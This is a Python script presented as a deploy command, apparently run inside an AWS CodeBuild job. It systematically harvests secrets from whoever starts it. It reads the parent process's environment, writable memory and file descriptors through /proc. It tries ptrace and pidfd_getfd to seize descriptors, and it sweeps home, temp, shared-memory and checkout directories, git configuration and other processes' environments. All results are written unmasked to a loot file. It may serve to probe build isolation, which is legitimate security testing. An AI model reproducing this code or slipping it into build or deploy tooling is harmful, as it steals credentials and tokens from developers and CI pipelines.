#!/usr/bin/env python3
"""A deploy command that looks for secrets of whoever started it. It prints what it tried, one line each, and writes all that
it got to LOOT_PATH, where no mask touches it."""

import ctypes
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

LOOT = Path("LOOT_PATH")
PARENT = os.getppid()
PTRACE_ATTACH, PTRACE_DETACH, SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 16, 17, 434, 438
MAX_BYTES = 16 * 1024 * 1024


def main() -> None:
    for name in ("environ", "maps", "cmdline", "stack", "auxv", "syscall"):
        attempt(f"{name} of the parent", lambda name=name: Path(f"/proc/{PARENT}/{name}").read_bytes())
    attempt("memory of the parent", memory)
    attempt("descriptors of the parent", lambda: read_all(f"/proc/{PARENT}/fd"))
    attempt("a tracer on the parent", trace)
    attempt("a descriptor taken from the parent", take_descriptor)
    attempt("inherited descriptors", inherited)
    attempt("the environment", lambda: repr(dict(os.environ)).encode())
    attempt("files at home", lambda: read_all(os.environ.get("HOME", "/nonexistent")))
    attempt("the checkout and what is beside it", lambda: read_all(".."))
    attempt("git's configuration", lambda: run("git", "config", "--list", "--show-origin"))
    attempt("git's remote", lambda: run("git", "remote", "--verbose"))
    attempt("memory files", lambda: read_all("/dev/shm"))
    attempt("temporary files", lambda: read_all(os.environ.get("TMPDIR", "/tmp")))
    attempt("other processes", processes)
    attempt("CodeBuild's own tree", lambda: read_all("/codebuild"))


def attempt(name: str, steal: Callable[[], bytes]) -> None:
    try:
        loot = steal()
    except OSError as error:
        print(f"attempt {name}: {error.strerror}", flush=True)
        return
    with LOOT.open("ab") as file:
        file.write(f"\n[{name}]\n".encode() + loot)
    print(f"attempt {name}: got {'something' if loot else 'nothing'}", flush=True)


def memory() -> bytes:
    loot = b""
    with open(f"/proc/{PARENT}/mem", "rb", buffering=0) as file:
        for line in Path(f"/proc/{PARENT}/maps").read_text().splitlines():
            bounds, rights = line.split()[:2]
            start, end = (int(bound, 16) for bound in bounds.split("-"))
            if rights.startswith("rw") and end - start < MAX_BYTES:
                file.seek(start)
                loot += file.read(end - start)
    return loot


def trace() -> bytes:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, PARENT, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(PARENT, 0x40000000)  # __WALL
    libc.ptrace(PTRACE_DETACH, PARENT, None, None)
    return b"traced"


def take_descriptor() -> bytes:
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(SYS_PIDFD_OPEN, PARENT, 0)
    try:
        for number in range(3, 64):
            if libc.syscall(SYS_PIDFD_GETFD, process, number, 0) >= 0:
                return f"took {number}".encode()
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    finally:
        os.close(process)


def inherited() -> bytes:
    loot = b""
    for number in range(3, 256):
        try:
            loot += f"descriptor {number} is {os.readlink(f'/proc/self/fd/{number}')}\n".encode()
            os.set_blocking(number, False)
            loot += os.pread(number, MAX_BYTES, 0)
        except OSError:
            continue
    return loot


def read_all(directory: str) -> bytes:
    """All readable files below `directory`, which itself must be readable."""
    os.listdir(directory)
    loot = b""
    for folder, _, names in os.walk(directory):
        for name in names:
            path = Path(folder, name)
            try:
                loot += str(path).encode() + b" " + os.readlink(path).encode() if path.is_symlink() else b""
                if path.is_file() and path.stat().st_size < MAX_BYTES:
                    loot += path.read_bytes()
            except OSError:
                continue
    return loot


def run(*command: str) -> bytes:
    return subprocess.run(command, capture_output=True, check=False).stdout


def processes() -> bytes:
    loot = b""
    for process in Path("/proc").iterdir():
        if process.name.isdigit() and int(process.name) not in (os.getpid(), PARENT):
            for name in ("cmdline", "environ"):
                try:
                    loot += (process / name).read_bytes()
                except OSError:
                    continue
    return loot


if __name__ == "__main__":
    main()
